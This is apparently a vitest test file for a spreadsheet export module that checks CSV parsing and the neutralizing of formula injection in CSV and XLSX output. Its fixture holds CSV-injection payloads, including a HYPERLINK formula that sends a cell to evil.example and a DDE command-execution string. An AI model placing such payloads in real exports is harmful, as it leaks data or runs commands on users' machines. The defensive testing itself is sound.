import { describe, expect, it } from 'vitest';
import { readSheet } from 'read-excel-file/node';
import { parseCsv, toCsv, toXlsx, type SheetCell } from './spreadsheet';

describe('parseCsv', () => {
  it('guesses the delimiter and keeps Argentine amounts whole', () => {
    expect(parseCsv('campo;valor\r\nventas;1.234,56\r\n\r\n')).toEqual([
      ['campo', 'valor'],
      ['ventas', '1.234,56'],
    ]);
    expect(parseCsv('cuit\n30715896342\n23283456714')).toEqual([['cuit'], ['30715896342'], ['23283456714']]);
    expect(parseCsv('a,b\n"x, y",z')).toEqual([
      ['a', 'b'],
      ['x, y', 'z'],
    ]);
  });

  it('round-trips what toCsv writes, quotes included', () => {
    const rows = [
      ['Nombre', 'Deuda'],
      ['ACME "SA"; sucursal', '1.234,56'],
    ];
    expect(parseCsv(toCsv(rows))).toEqual(rows);
  });
});

/** Cells an attacker controls (a name, a typed CUIT, a note) that a spreadsheet would run as formulas. */
const HOSTILE: SheetCell[][] = [
  ['Nombre', 'CUIT', 'Deuda', 'Nota'],
  ['=HYPERLINK("http://evil.example/?"&A1,"Ver")', '=1+1', -1500.5, '@SUM(1+1)*cmd|" /C calc"!A0'],
  ['+54 11 5555', '-2+3', 0, '\t=1+1'],
  ['GOMEZ MARIA LAURA', '20-31456782-0', 1234.56, null],
];
const NEUTRALIZED = [
  ['Nombre', 'CUIT', 'Deuda', 'Nota'],
  ['\'=HYPERLINK("http://evil.example/?"&A1,"Ver")', "'=1+1", -1500.5, '\'@SUM(1+1)*cmd|" /C calc"!A0'],
  ["'+54 11 5555", "'-2+3", 0, "'\t=1+1"],
  ['GOMEZ MARIA LAURA', '20-31456782-0', 1234.56, null],
];

describe('exports neutralize formulas (ADR 0112), read back from real files', () => {
  it('XLSX: text cells starting with = + - @ or a tab are text with a quote; numbers stay numbers', async () => {
    const blob = await toXlsx(HOSTILE, { sheet: 'Prueba', numberFormats: { 2: '#,##0.00' } });
    const bytes = await new Promise<ArrayBuffer>((resolve, reject) => {
      const reader = new FileReader();
      reader.onload = () => resolve(reader.result as ArrayBuffer);
      reader.onerror = () => reject(reader.error ?? new Error('read failed'));
      reader.readAsArrayBuffer(blob);
    });
    expect(await readSheet(Buffer.from(bytes))).toEqual(NEUTRALIZED);
  });

  it('CSV: the same cells, read back by the CSV reader', () => {
    expect(parseCsv(toCsv(HOSTILE))).toEqual(
      NEUTRALIZED.map((row) => row.map((cell) => (cell === null ? '' : String(cell)))),
    );
  });
});
